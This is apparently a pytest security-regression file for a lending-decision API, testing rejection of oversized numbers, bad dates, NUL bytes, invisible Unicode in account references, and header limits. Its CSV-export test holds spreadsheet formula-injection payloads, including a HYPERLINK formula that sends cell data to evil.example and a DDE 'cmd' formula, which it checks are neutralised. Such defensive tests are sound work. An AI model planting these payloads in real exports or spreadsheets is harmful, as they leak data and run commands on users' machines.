"""The held-out attacks of the second hardening round, replayed with the same inputs (both stores): numbers and
dates that used to overflow into a 500, NUL in the agent page's paths, invisible characters in account
references, formulas in the CSV export, and the security headers and header limits of every response."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from apihelpers import assert_problem

from api.pages.agent import CSP as PAGE_CSP

HUGE = "9" * 5000  # past Python's 4,300-digit int conversion limit: json.loads raised ValueError


def _raw(service, path: str, text: str, role: str = "issuer"):
    return service.client.post(path, content=text.encode(), headers={**service.auth(role),
                                                                      "content-type": "application/json"})


def _with_literal(body: dict, field: str, literal: str) -> str:
    """``body`` as JSON with ``field``'s value replaced by a raw number literal (json.dumps cannot write one)."""
    return json.dumps({**body, field: "@@"}).replace('"@@"', literal)


# ---------------------------------------------------------------------------------------------- 500s -> 4xx
@pytest.mark.parametrize(("path", "role"), [("/v1/decisions", "issuer"), ("/v1/explanations", "agent")])
def test_an_integer_literal_over_4300_digits_is_422_naming_body(service, decision_body, path, role) -> None:
    text = _with_literal(decision_body(), "old_limit", HUGE)
    body = assert_problem(_raw(service, path, text, role), 422, field="body")
    assert "4300 digits" in body["detail"]
    bare = assert_problem(_raw(service, path, HUGE, role), 422, field="body")
    assert "integer literal" in bare["errors"][0]["message"]


def test_a_huge_literal_without_a_content_type_is_422_too(service) -> None:
    r = service.client.post("/v1/explanations", content=HUGE.encode(), headers=service.auth("agent"))
    assert_problem(r, 422, field="body")


@pytest.mark.parametrize("literal", [str(10**400), "-" + str(10**400), "1e300", str(10**15 + 1)])
def test_a_feature_value_past_the_numeric_bound_is_422_naming_the_feature(service, decision_body, accounts,
                                                                          literal) -> None:
    features = json.dumps({**accounts[0], "duration_in_month": "@@"}).replace('"@@"', literal)
    text = json.dumps({**decision_body(), "features": "@@"}).replace('"@@"', features)
    body = assert_problem(_raw(service, "/v1/decisions", text), 422, field="features.duration_in_month")
    assert "10^15" in json.dumps(body["errors"])
    what_if = json.dumps({"bundle": decision_body()["bundle"], "features": "@@", "decision": "limit_decrease"})
    assert_problem(_raw(service, "/v1/explanations", what_if.replace('"@@"', features), "agent"), 422,
                   field="features.duration_in_month")


@pytest.mark.parametrize(("where", "field"), [("purpose", "features.purpose"), ("account_ref", "account_ref"),
                                              ("policy", "policy_reasons[0]")])
def test_a_lone_surrogate_escape_is_422_naming_the_field(service, decision_body, where, field) -> None:
    body = decision_body(policy_reasons=["@@"] if where == "policy" else [])
    if where == "purpose":
        body["features"] = {**body["features"], "purpose": "@@"}
    elif where == "account_ref":
        body["account_ref"] = "@@"
    text = json.dumps(body).replace('"@@"', '"car\\udfff"')
    problem = assert_problem(_raw(service, "/v1/decisions", text), 422, field=field)
    assert "U+DFFF" in problem["errors"][0]["message"]
    paired = json.dumps(decision_body(account_ref="@@")).replace('"@@"', '"smile-\\ud83d\\ude00"')
    assert _raw(service, "/v1/decisions", paired).status_code == 201  # a pair is one character: accepted


@pytest.mark.parametrize("field", ["old_limit", "new_limit"])
def test_limits_of_10_to_the_400_are_422(service, decision_body, field) -> None:
    text = _with_literal(decision_body(), field, str(10**400))
    assert_problem(_raw(service, "/v1/decisions", text), 422, field=field)


@pytest.mark.parametrize(("field", "value"), [("notice_date", "9999-12-31"), ("effective_date", "9999-12-31"),
                                              ("notice_date", "0001-01-01"), ("notice_date", "3000-01-01")])
def test_dates_outside_the_sane_range_are_422(service, decision_body, field, value) -> None:
    r = service.client.post("/v1/decisions", json=decision_body(**{field: value}), headers=service.auth("issuer"))
    body = assert_problem(r, 422, field=field)
    assert body["errors"][0]["expected"] == "a date from 1900-01-01 to 2999-12-31"


def test_the_last_sane_date_is_accepted(service, decision_body) -> None:
    r = service.client.post("/v1/decisions", json=decision_body(notice_date="2999-12-31", effective_date=None),
                            headers=service.auth("issuer"))
    assert r.status_code == 201, r.text


@pytest.mark.parametrize("since", ["9999-12-31T23:00:00-05:00", "0001-01-01T00:00:00+05:00"])
def test_export_bounds_that_overflow_in_utc_are_422(service, since) -> None:
    r = service.client.get("/v1/audit/export", params={"since": since}, headers=service.auth("auditor"))
    assert_problem(r, 422, field="since")


def _page(service, role: str = "agent"):  # noqa: ANN202
    client = service.client
    client.cookies.clear()
    form = client.get("/agent/sign-in")
    csrf = re.search(r'name="csrf" value="([^"]+)"', form.text).group(1)
    r = client.post("/agent/sign-in", data={"csrf": csrf, "key": service.keys[role]}, follow_redirects=False)
    assert r.status_code == 303
    return re.search(r'name="csrf" value="([^"]+)"', client.get("/agent").text).group(1)


def _page_headers_ok(r) -> None:  # noqa: ANN001
    assert r.headers["content-security-policy"] == PAGE_CSP
    assert r.headers["x-frame-options"] == "DENY" and r.headers["x-content-type-options"] == "nosniff"
    assert "text/html" in r.headers["content-type"] and "Traceback" not in r.text


@pytest.mark.parametrize("path", ["/agent/accounts/%00", "/agent/decisions/%00", "/agent/accounts/A%00B",
                                  "/agent/decisions/" + "%00" * 36])
def test_nul_in_agent_paths_is_the_pages_own_4xx(service, path) -> None:
    _page(service)
    r = service.client.get(path, follow_redirects=False)
    assert r.status_code in (404, 422), r.text
    _page_headers_ok(r)


@pytest.mark.parametrize("query", ["\x00" * 36, "a" * 35 + "\x00", "\x00"])
def test_nul_in_a_page_lookup_is_the_pages_own_4xx(service, query) -> None:
    csrf = _page(service)
    r = service.client.post("/agent/lookup", data={"csrf": csrf, "q": query}, follow_redirects=False)
    assert r.status_code == 422, r.text
    _page_headers_ok(r)


def test_errors_under_agent_carry_the_pages_headers(service) -> None:
    r = service.client.get("/agent/sign-out")  # no such GET: a problem+json 405, with the page's policy
    assert r.status_code == 405
    assert r.headers["content-security-policy"] == PAGE_CSP and r.headers["x-frame-options"] == "DENY"


# ------------------------------------------------------------------------------------ account references
INVISIBLE = [("6222\u202e1000", "U+202E RIGHT-TO-LEFT OVERRIDE"), ("6222\u200b0001", "U+200B ZERO WIDTH SPACE"),
             ("\ufeff62220001", "U+FEFF"), ("6222\u20280001", "U+2028 LINE SEPARATOR"),
             ("6222\x850001", "U+0085"), (" 62220001", "U+0020 SPACE at position 1"),
             ("62220001 ", "U+0020 SPACE at position 9"), ("6222\u00a00001", "U+00A0 NO-BREAK SPACE"),
             ("6222\u20660001", "U+2066 LEFT-TO-RIGHT ISOLATE")]


@pytest.mark.parametrize(("ref", "named"), INVISIBLE)
def test_invisible_and_direction_characters_in_account_refs_are_422_naming_the_code_point(
        service, decision_body, ref, named) -> None:
    r = service.client.post("/v1/decisions", json=decision_body(account_ref=ref), headers=service.auth("issuer"))
    body = assert_problem(r, 422, field="account_ref")
    assert named in body["errors"][0]["message"], body
    lookup = service.client.get(f"/v1/accounts/{ref}/decisions".replace("\x85", "%C2%85"),
                                headers=service.auth("agent"))
    assert named in assert_problem(lookup, 422, field="account_ref")["errors"][0]["message"]


def test_account_refs_are_stored_in_nfc_and_found_in_either_form(service, decision_body) -> None:
    decomposed, composed = "Cafe\u0301-round2", "Caf\u00e9-round2"
    r = service.client.post("/v1/decisions", json=decision_body(account_ref=decomposed), headers=service.auth("issuer"))
    assert r.status_code == 201 and r.json()["account_ref"] == composed
    for ref in (composed, decomposed):
        got = service.client.get(f"/v1/accounts/{ref}/decisions", headers=service.auth("agent")).json()
        assert [d["account_ref"] for d in got["decisions"]] == [composed]
    inner = service.client.post("/v1/decisions", json=decision_body(account_ref="6222 0001 round2"),
                                headers=service.auth("issuer"))
    assert inner.status_code == 201  # a plain space between characters is how many lenders write them


@pytest.mark.parametrize(("ref", "named"), INVISIBLE[:3])
def test_the_page_lookup_refuses_invisible_characters_naming_them(service, ref, named) -> None:
    csrf = _page(service)
    r = service.client.post("/agent/lookup", data={"csrf": csrf, "q": ref}, follow_redirects=False)
    assert r.status_code == 422 and named in r.text
    _page_headers_ok(r)


# ------------------------------------------------------------------------------------------------ CSV export
FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)", "-2+3"]


def test_csv_export_neutralises_formulas_and_jsonl_keeps_them(fresh_service, decision_body) -> None:
    service = fresh_service
    for ref in FORMULAS:
        r = service.client.post("/v1/decisions", json=decision_body(account_ref=ref), headers=service.auth("issuer"))
        assert r.status_code == 201, r.text
    text = service.client.get("/v1/audit/export", params={"format": "csv"}, headers=service.auth("auditor")).text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [row["account_ref"] for row in rows] == ["'" + ref for ref in FORMULAS]
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
            if cell.startswith("-"):
                float(cell)  # only numbers (a negative margin) may start with a minus sign
    jsonl = service.client.get("/v1/audit/export", headers=service.auth("auditor")).text
    assert [json.loads(line)["account_ref"] for line in jsonl.splitlines()] == FORMULAS


# ------------------------------------------------------------------------------------ headers and limits
@pytest.mark.parametrize("path", ["/docs", "/redoc", "/openapi.json", "/healthz", "/v1/bundles", "/nothing-here",
                                  "/metrics"])
def test_every_response_carries_the_security_headers(service, path) -> None:
    r = service.client.get(path, headers=service.auth("agent"))
    assert r.headers["x-content-type-options"] == "nosniff" and r.headers["x-frame-options"] == "DENY"
    assert r.headers["referrer-policy"] == "no-referrer"
    csp = r.headers["content-security-policy"]
    assert "default-src 'none'" in csp and "frame-ancestors 'none'" in csp
    assert "strict-transport-security" not in r.headers  # plain HTTP: no HSTS


def test_the_docs_policy_admits_exactly_its_inline_script_and_bundled_assets(service) -> None:
    import base64
    import hashlib

    r = service.client.get("/docs")
    script = re.search(r"<script>(.*?)</script>", r.text, re.DOTALL).group(1)
    digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
    csp = r.headers["content-security-policy"]
    assert f"script-src 'self' 'sha256-{digest}'" in csp and "unsafe-eval" not in csp
    assert "connect-src 'self'" in csp


def test_the_report_policy_allows_inline_styles_but_no_script(service) -> None:
    r = service.client.get("/v1/audit/report", headers=service.auth("auditor"))
    assert r.status_code == 200
    csp = r.headers["content-security-policy"]
    assert "style-src 'unsafe-inline'" in csp and "script-src" not in csp and "default-src 'none'" in csp


@pytest.mark.parametrize("headers", [
    {"x-big": "a" * (10 * 1024 * 1024)},
    # 10x the limit: the in-process test client is quadratic in the header count (10,000 cost it ~12 s), the
    # server is not; the real server below still gets 10,000.
    {f"x-h{i}": "1" for i in range(1_000)},
    {f"x-h{i}": "a" * 4000 for i in range(20)},
])
def test_oversized_or_too_many_headers_are_431(service, headers) -> None:
    body = assert_problem(service.client.get("/healthz", headers=headers), 431, field="headers")
    assert "at most" in body["detail"]


@pytest.mark.slow
def test_a_real_server_refuses_huge_headers_and_believes_only_its_trusted_proxy(tmp_path) -> None:
    import httpx
    from liveserver import server_process

    url = f"sqlite:///{tmp_path / 'explain.db'}"
    with server_process(url, log_path=tmp_path / "server.log",
                        env={"EXPLAIN_FORWARDED_ALLOW_IPS": "192.0.2.1"}) as (base, _proc):
        big = httpx.get(f"{base}/healthz", headers={"x-big": "a" * (10 * 1024 * 1024)}, timeout=60)
        assert_problem(big, 431, field="headers")
        many = httpx.get(f"{base}/healthz", headers={f"x-h{i}": "1" for i in range(10_000)}, timeout=60)
        assert_problem(many, 431, field="headers")
        # 127.0.0.1 is not in EXPLAIN_FORWARDED_ALLOW_IPS here: its X-Forwarded-Proto is not believed, and
        # uvicorn's own proxy handling (which trusts 127.0.0.1) is off under `explain serve`
        plain = httpx.get(f"{base}/healthz", headers={"x-forwarded-proto": "https"})
        assert plain.status_code == 200 and "strict-transport-security" not in plain.headers
        assert plain.headers["x-frame-options"] == "DENY" and "server" not in plain.headers
    with server_process(url, log_path=tmp_path / "server2.log") as (base, _proc):  # default: 127.0.0.1 trusted
        proxied = httpx.get(f"{base}/healthz", headers={"x-forwarded-proto": "https"})
        assert proxied.headers["strict-transport-security"] == "max-age=31536000"
